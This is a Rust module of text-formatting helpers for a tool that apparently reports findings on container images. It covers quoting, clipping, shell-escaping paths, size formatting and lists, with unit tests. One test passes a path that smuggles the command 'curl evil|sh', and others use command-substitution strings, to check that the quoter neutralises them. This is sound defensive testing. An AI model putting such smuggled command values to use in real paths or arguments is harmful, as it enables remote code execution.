//! Small texts that many findings share.

use model::escaped;
use std::fmt::Display;

/// The longest quotation from an image, in characters.
const LONGEST: usize = 120;
/// How many of many a finding lists.
pub(crate) const LISTED: usize = 10;

/// Text from an image, harmless, clipped and in backticks.
pub(crate) fn quoted(text: &str) -> String {
    format!("`{}`", clipped(text))
}

/// Text from an image, harmless and clipped.
pub(crate) fn clipped(text: &str) -> String {
    let head: String = text.chars().take(LONGEST).collect();
    let more = if head.len() < text.len() { "…" } else { "" };
    format!("{}{more}", escaped(&head))
}

/// A path in a command that somebody may paste: quoted where a shell would take a part of it for more than a name
/// (<https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_02_02>).
pub(crate) fn shell(path: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./+-=:@%,".contains(c);
    match path.chars().all(plain) && !path.is_empty() && !path.starts_with('-') {
        true => path.to_owned(),
        false => format!("'{}'", clipped(path).replace('\'', r"'\''")),
    }
}

/// A size as Docker writes it: powers of 1000, three digits.
pub(crate) fn size(bytes: u64) -> String {
    let units = ["B", "kB", "MB", "GB", "TB", "PB", "EB"];
    let mut unit = 0;
    let mut value = bytes as f64;
    while value >= 999.5 && unit + 1 < units.len() {
        value /= 1000.0;
        unit += 1;
    }
    let decimals = usize::from(unit > 0 && value < 99.95);
    format!("{value:.decimals$} {}", units[unit])
}

/// `1 file`, `2 files`.
pub(crate) fn count(n: u64, one: &str) -> String {
    let s = if n == 1 { "" } else { "s" };
    format!("{n} {one}{s}")
}

/// The first [`LISTED`], joined, and how many more there are.
pub(crate) fn listed<T: Display>(items: impl ExactSizeIterator<Item = T>) -> String {
    let more = items.len().saturating_sub(LISTED);
    let mut text = items.take(LISTED).map(|i| i.to_string()).collect::<Vec<_>>().join(", ");
    if more > 0 {
        text.push_str(&format!(" and {more} more"));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_in_a_command_is_one_word() {
        assert_eq!(shell("/usr/bin/g++-12"), "/usr/bin/g++-12");
        assert_eq!(shell("/opt/x;curl evil|sh #"), "'/opt/x;curl evil|sh #'");
        assert_eq!(shell("/a'$(b)`c`"), r"'/a'\''$(b)`c`'");
        assert_eq!(shell("-rf"), "'-rf'");
        assert_eq!(shell("/a\nb"), r"'/a\nb'");
    }

    #[test]
    fn sizes_read_like_dockers() {
        for (bytes, text) in
            [(0, "0 B"), (999, "999 B"), (1000, "1.0 kB"), (19_460_000, "19.5 MB"), (u64::MAX, "18.4 EB")]
        {
            assert_eq!(size(bytes), text);
        }
        assert_eq!(size(999_999), "1.0 MB");
    }

    #[test]
    fn quotations_are_short_and_harmless() {
        assert_eq!(quoted("a\u{1b}[2J"), r"`a\x1b[2J`");
        assert!(quoted(&"x".repeat(10_000)).chars().count() < 130);
    }

    #[test]
    fn lists_say_what_they_leave_out() {
        assert_eq!(listed((0..3).collect::<Vec<_>>().iter()), "0, 1, 2");
        assert!(listed((0..12).collect::<Vec<_>>().iter()).ends_with("9 and 2 more"));
    }
}
